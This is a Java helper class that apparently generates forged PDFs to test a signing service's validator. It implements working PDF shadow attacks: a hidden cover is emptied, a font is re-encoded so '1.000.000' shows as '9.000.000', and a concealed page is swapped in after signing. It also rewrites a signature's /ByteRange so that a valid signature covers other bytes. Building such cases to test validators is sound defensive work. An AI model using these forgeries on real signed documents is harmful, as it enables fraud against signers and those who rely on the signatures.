package vn.motcua.signing.pdf;

import eu.europa.esig.dss.enumerations.DigestAlgorithm;
import eu.europa.esig.dss.enumerations.EncryptionAlgorithm;
import eu.europa.esig.dss.enumerations.SignatureAlgorithm;
import eu.europa.esig.dss.enumerations.SignatureLevel;
import eu.europa.esig.dss.model.DSSMessageDigest;
import eu.europa.esig.dss.model.SignatureValue;
import eu.europa.esig.dss.model.x509.CertificateToken;
import eu.europa.esig.dss.pades.PAdESSignatureParameters;
import eu.europa.esig.dss.pades.signature.ExternalCMSService;
import eu.europa.esig.dss.spi.DSSUtils;
import eu.europa.esig.dss.spi.validation.CommonCertificateVerifier;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.Signature;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationText;
import vn.motcua.signing.authority.SigningKey;

/**
 * Files that show one thing when they are signed and another after ("shadow attacks", Mainka, Mladenov and Rohlmann, NDSS 2021), and signatures over other bytes than the file's. Written anew from
 * what was published.
 */
final class PdfForger {

    private static final Pattern RANGE = Pattern.compile("/ByteRange ?\\[(\\d+) (\\d+) (\\d+) (\\d+) *] *");

    private PdfForger() {}

    /** A page that says 9.000.000, below a picture that covers it and says 1.000.000; and a page that nobody sees yet. */
    static byte[] shadowed() throws IOException {
        try (PDDocument document = new PDDocument()) {
            PDType1Font font = new PDType1Font(Standard14Fonts.FontName.HELVETICA);
            PDPage page = new PDPage();
            document.addPage(page);
            PDFormXObject cover = new PDFormXObject(document);
            cover.setBBox(new PDRectangle(300, 60));
            cover.setResources(new PDResources());
            cover.getResources().put(COSName.HELV, font);
            try (var out = cover.getStream().createOutputStream()) {
                out.write("1 g 0 0 300 60 re f 0 g BT /Helv 12 Tf 20 20 Td (1.000.000) Tj ET"
                        .getBytes(StandardCharsets.US_ASCII));
            }
            try (PDPageContentStream pen = new PDPageContentStream(document, page)) {
                write(pen, font, "9.000.000");
                pen.drawForm(cover);
            }
            PDPage hidden = new PDPage();
            try (PDPageContentStream pen = new PDPageContentStream(document, hidden)) {
                write(pen, font, "another document");
            }
            document.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Kept"), hidden);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        }
    }

    private static void write(PDPageContentStream pen, PDType1Font font, String text) throws IOException {
        pen.beginText();
        pen.setFont(font, 12);
        pen.newLineAtOffset(20, 20);
        pen.showText(text);
        pen.endText();
    }

    /** The cover is emptied (hide). */
    static byte[] uncovered(byte[] pdf) throws IOException {
        return updated(pdf, document -> {
            COSStream cover = cover(document);
            try (var out = cover.createOutputStream()) {
                out.write("q Q".getBytes(StandardCharsets.US_ASCII));
            }
            cover.setNeedToBeUpdated(true);
        });
    }

    /** The font of what is signed draws nines where it drew ones (replace). */
    static byte[] otherFont(byte[] pdf) throws IOException {
        return updated(pdf, document -> {
            COSDictionary font = cover(document)
                    .getCOSDictionary(COSName.RESOURCES)
                    .getCOSDictionary(COSName.FONT)
                    .getCOSDictionary(COSName.HELV);
            COSArray differences = new COSArray();
            differences.add(org.apache.pdfbox.cos.COSInteger.get('1'));
            differences.add(COSName.getPDFName("nine"));
            COSDictionary encoding = new COSDictionary();
            encoding.setItem(COSName.TYPE, COSName.ENCODING);
            encoding.setItem(COSName.DIFFERENCES, differences);
            font.setItem(COSName.ENCODING, encoding);
            font.setNeedToBeUpdated(true);
        });
    }

    /** The hidden page takes the place of the one that was shown (hide and replace). */
    static byte[] otherPage(byte[] pdf) throws IOException {
        return updated(pdf, document -> {
            COSDictionary hidden =
                    document.getDocumentCatalog().getCOSObject().getCOSDictionary(COSName.getPDFName("Kept"));
            COSDictionary pages = document.getDocumentCatalog().getCOSObject().getCOSDictionary(COSName.PAGES);
            hidden.setItem(COSName.PARENT, pages);
            COSArray kids = new COSArray();
            kids.add(hidden);
            pages.setItem(COSName.KIDS, kids);
            hidden.setNeedToBeUpdated(true);
            pages.setNeedToBeUpdated(true);
        });
    }

    /** The page draws another stream. */
    static byte[] otherContent(byte[] pdf) throws IOException {
        return updated(pdf, document -> {
            PDPage page = document.getPage(0);
            COSDictionary hidden =
                    document.getDocumentCatalog().getCOSObject().getCOSDictionary(COSName.getPDFName("Kept"));
            page.getCOSObject().setItem(COSName.CONTENTS, hidden.getItem(COSName.CONTENTS));
            page.getCOSObject().setNeedToBeUpdated(true);
        });
    }

    /** Somebody writes a note on it. */
    static byte[] noted(byte[] pdf) throws IOException {
        return updated(pdf, document -> {
            PDAnnotationText note = new PDAnnotationText();
            note.setContents("9.000.000");
            note.setRectangle(new PDRectangle(50, 500, 20, 20));
            PDPage page = document.getPage(0);
            page.setAnnotations(List.of(note));
            page.getCOSObject().setNeedToBeUpdated(true);
            note.getCOSObject().setNeedToBeUpdated(true);
        });
    }

    private static COSStream cover(PDDocument document) throws IOException {
        PDResources resources = document.getPage(0).getResources();
        return (COSStream) resources
                .getXObject(resources.getXObjectNames().iterator().next())
                .getCOSObject();
    }

    private interface Change {
        void make(PDDocument document) throws IOException;
    }

    private static byte[] updated(byte[] pdf, Change change) throws IOException {
        try (PDDocument document = Loader.loadPDF(pdf)) {
            change.make(document);
            document.getDocumentCatalog().getCOSObject().setNeedToBeUpdated(true);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.saveIncremental(out);
            return out.toByteArray();
        }
    }

    /** What a signature covers: two parts of the file, each by its beginning and length. */
    record Range(int first, int firstLength, int second, int secondLength) {}

    /** What the only signature of a file covers. */
    static Range range(byte[] pdf) {
        Matcher found = RANGE.matcher(new String(pdf, StandardCharsets.ISO_8859_1));
        if (!found.find()) throw new IllegalArgumentException("no signature");
        return new Range(
                Integer.parseInt(found.group(1)),
                Integer.parseInt(found.group(2)),
                Integer.parseInt(found.group(3)),
                Integer.parseInt(found.group(4)));
    }

    /** The same file with a true signature over other bytes of it. */
    static byte[] over(byte[] pdf, Range range, SigningKey key) throws Exception {
        String text = new String(pdf, StandardCharsets.ISO_8859_1);
        Matcher found = RANGE.matcher(text);
        if (!found.find()) throw new IllegalArgumentException("no signature");
        String told = "/ByteRange [%d %d %d %d]"
                .formatted(range.first(), range.firstLength(), range.second(), range.secondLength());
        int room = found.end() - found.start() - told.length();
        if (room < 0) throw new IllegalArgumentException("no room for " + told);
        byte[] other = (text.substring(0, found.start()) + told + " ".repeat(room) + text.substring(found.end()))
                .getBytes(StandardCharsets.ISO_8859_1);
        ByteArrayOutputStream covered = new ByteArrayOutputStream();
        part(other, range.first(), range.firstLength(), covered);
        part(other, range.second(), range.secondLength(), covered);
        return filled(other, value(covered.toByteArray(), key));
    }

    private static void part(byte[] pdf, int from, int length, ByteArrayOutputStream out) {
        int start = Math.min(from, pdf.length);
        out.write(pdf, start, Math.min(length, pdf.length - start));
    }

    private static byte[] value(byte[] covered, SigningKey key) throws Exception {
        PAdESSignatureParameters how = new PAdESSignatureParameters();
        how.setSignatureLevel(SignatureLevel.PAdES_BASELINE_B);
        how.setDigestAlgorithm(DigestAlgorithm.SHA256);
        how.setEncryptionAlgorithm(EncryptionAlgorithm.ECDSA);
        how.setSigningCertificate(new CertificateToken(key.certificate()));
        how.setCertificateChain(key.chain().stream().map(CertificateToken::new).toList());
        ExternalCMSService service = new ExternalCMSService(new CommonCertificateVerifier(true));
        DSSMessageDigest hash = new DSSMessageDigest(
                DigestAlgorithm.SHA256, MessageDigest.getInstance("SHA-256").digest(covered));
        Signature signature = Signature.getInstance("SHA256withECDSA");
        signature.initSign(key.key());
        signature.update(service.getDataToSign(hash, how).getBytes());
        return DSSUtils.toByteArray(service.signMessageDigest(
                hash, how, new SignatureValue(SignatureAlgorithm.ECDSA_SHA256, signature.sign())));
    }

    private static byte[] filled(byte[] pdf, byte[] value) {
        Range old = range(pdf);
        String text = new String(pdf, StandardCharsets.ISO_8859_1);
        int from = text.indexOf("/Contents <") + "/Contents <".length();
        int to = text.indexOf('>', from);
        String hex = java.util.HexFormat.of().formatHex(value);
        if (hex.length() > to - from) throw new IllegalArgumentException("no room for the value beside " + old);
        return (text.substring(0, from) + hex + "0".repeat(to - from - hex.length()) + text.substring(to))
                .getBytes(StandardCharsets.ISO_8859_1);
    }
}
